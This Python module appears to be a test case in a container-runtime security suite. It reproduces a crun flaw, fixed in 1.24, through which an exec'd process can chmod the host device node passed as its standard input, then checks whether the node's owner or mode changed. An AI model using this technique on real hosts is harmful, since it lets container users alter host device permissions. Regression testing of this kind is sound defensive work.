"""An exec's program becomes the owner of the device that its standard input is."""

import os

from bypass import inert

SOURCE = "containers/crun a9d12996: crun before 1.24 gives devices to the container's user"
WAY = "exec"
STOPPED = inert("the stream is a node of its own for the same device, which nobody else has")
BARE = {"runc": "runc leaves /dev/null as it is"}


def attack(t):
    device = t.host + "/null"
    os.mknod(device, 0o20666, os.makedev(1, 3))
    os.chmod(device, 0o666)
    t.up()
    t.around = ["sh", "-c", 'exec "$@" <"$0"', device]
    t.exec("chmod 0 /proc/self/fd/0; cat", user={"uid": 1000, "gid": 1000})
    now = os.stat(device)
    return "owned by %d, mode %o" % (now.st_uid, now.st_mode & 0o777) if now.st_uid or now.st_mode & 0o777 != 0o666 else ""
